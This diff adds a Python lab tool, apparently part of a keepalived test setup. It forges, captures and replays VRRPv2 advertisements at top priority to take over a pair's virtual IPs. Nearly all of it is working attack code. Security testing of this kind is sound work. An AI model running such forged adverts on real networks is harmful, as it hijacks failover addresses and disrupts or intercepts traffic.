@@ -1,0 +1,155 @@
+#!/usr/bin/env python3
+"""vrrp_attack: what a stranger on the segment can do to a keepalived pair (lab only).
+
+Stdlib only; runs in the lab/Molecule client container (NET_RAW), bounded in count and
+time, and sends only to the VRRP multicast group 224.0.0.18 on the lab bridge.
+
+  send    --vrid N [--vrid M] --priority 255 [--password PW] --vip A [--vip B]
+          --count C --interval S         VRRPv2 adverts from this host's own address
+  capture --seconds S --out FILE         the VRRP adverts seen on the segment (JSON lines)
+  replay  --in FILE --count C --interval S   sends the captured adverts again, unchanged
+
+Each command prints one JSON line: what it sent or saw. The packet builder (advert,
+checksum) is pure and tested in tests/unit/lab/.
+"""
+
+from __future__ import annotations
+
+import argparse
+import ipaddress
+import json
+import select
+import socket
+import struct
+import sys
+import time
+
+VRRP_GROUP = "224.0.0.18"
+VRRP_PROTO = 112
+MAX_COUNT = 200  # a bound of its own, whatever --count says
+MAX_SECONDS = 120
+
+
+def checksum(data: bytes) -> int:
+    """The Internet checksum (RFC 1071) over data."""
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def advert_v2(vrid: int, priority: int, vips: list[str], password: str | None = None, advert_int: int = 1) -> bytes:
+    """A VRRPv2 advertisement (RFC 3768 §5.1): PASS authentication when a password is given."""
+    if not 1 <= vrid <= 255 or not 0 <= priority <= 255:
+        raise ValueError("vrid 1..255, priority 0..255")
+    auth_type = 1 if password is not None else 0
+    auth = (password or "").encode("ascii")[:8].ljust(8, b"\0")
+    addrs = b"".join(ipaddress.IPv4Address(v).packed for v in vips)
+    head = struct.pack("!BBBBBBH", 0x21, vrid, priority, len(vips), auth_type, advert_int, 0)
+    body = head + addrs + auth
+    csum = checksum(body)
+    return body[:6] + struct.pack("!H", csum) + body[8:]
+
+
+def parse_v2(payload: bytes) -> dict:
+    """The fields of a VRRP advert (v2 or v3), for the capture's log."""
+    ver_type, vrid, prio, count = payload[0], payload[1], payload[2], payload[3]
+    return {"version": ver_type >> 4, "vrid": vrid, "priority": prio, "count": count}
+
+
+def _sender(ttl: int = 255) -> socket.socket:
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP_PROTO)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, ttl)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
+    return s
+
+
+def cmd_send(a: argparse.Namespace) -> dict:
+    count = min(a.count, MAX_COUNT)
+    deadline = time.monotonic() + MAX_SECONDS
+    s = _sender()
+    sent = 0
+    packets = [advert_v2(v, a.priority, a.vip, a.password) for v in a.vrid]
+    for _ in range(count):
+        for p in packets:
+            s.sendto(p, (VRRP_GROUP, 0))
+            sent += 1
+        if time.monotonic() > deadline:
+            break
+        time.sleep(a.interval)
+    return {"sent": sent, "vrids": a.vrid, "priority": a.priority, "password": a.password is not None}
+
+
+def _listener() -> socket.socket:
+    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP_PROTO)
+    mreq = socket.inet_aton(VRRP_GROUP) + socket.inet_aton("0.0.0.0")
+    r.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
+    return r
+
+
+def cmd_capture(a: argparse.Namespace) -> dict:
+    r = _listener()
+    end = time.monotonic() + min(a.seconds, MAX_SECONDS)
+    seen = 0
+    with open(a.out, "w") as f:
+        while time.monotonic() < end and seen < 10 * MAX_COUNT:
+            ready, _, _ = select.select([r], [], [], max(0.0, end - time.monotonic()))
+            if not ready:
+                continue
+            pkt, (src, _) = r.recvfrom(2048)
+            ihl = (pkt[0] & 0x0F) * 4
+            payload = pkt[ihl:]
+            f.write(json.dumps({"src": src, "payload": payload.hex(), **parse_v2(payload)}) + "\n")
+            seen += 1
+    return {"captured": seen}
+
+
+def cmd_replay(a: argparse.Namespace) -> dict:
+    with open(a.infile) as f:
+        caps = [json.loads(line) for line in f if line.strip()]
+    if a.source:
+        caps = [c for c in caps if c["src"] == a.source]
+    if not caps:
+        return {"sent": 0, "error": "nothing captured to replay"}
+    s = _sender()
+    sent = 0
+    deadline = time.monotonic() + MAX_SECONDS
+    payloads = list({c["payload"]: None for c in caps})  # each distinct advert once per round
+    for _ in range(min(a.count, MAX_COUNT)):
+        for p in payloads:
+            s.sendto(bytes.fromhex(p), (VRRP_GROUP, 0))
+            sent += 1
+        if time.monotonic() > deadline:
+            break
+        time.sleep(a.interval)
+    return {"sent": sent, "distinct": len(payloads)}
+
+
+def main(argv: list[str]) -> int:
+    p = argparse.ArgumentParser(prog="vrrp_attack")
+    sub = p.add_subparsers(dest="cmd", required=True)
+    s = sub.add_parser("send")
+    s.add_argument("--vrid", type=int, action="append", required=True)
+    s.add_argument("--priority", type=int, default=255)
+    s.add_argument("--password")
+    s.add_argument("--vip", action="append", required=True)
+    s.add_argument("--count", type=int, default=16)
+    s.add_argument("--interval", type=float, default=0.5)
+    c = sub.add_parser("capture")
+    c.add_argument("--seconds", type=float, default=5)
+    c.add_argument("--out", required=True)
+    r = sub.add_parser("replay")
+    r.add_argument("--in", dest="infile", required=True)
+    r.add_argument("--source", help="replay only the adverts captured from this address")
+    r.add_argument("--count", type=int, default=16)
+    r.add_argument("--interval", type=float, default=0.5)
+    a = p.parse_args(argv)
+    out = {"send": cmd_send, "capture": cmd_capture, "replay": cmd_replay}[a.cmd](a)
+    print(json.dumps({"cmd": a.cmd, **out}))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1:]))
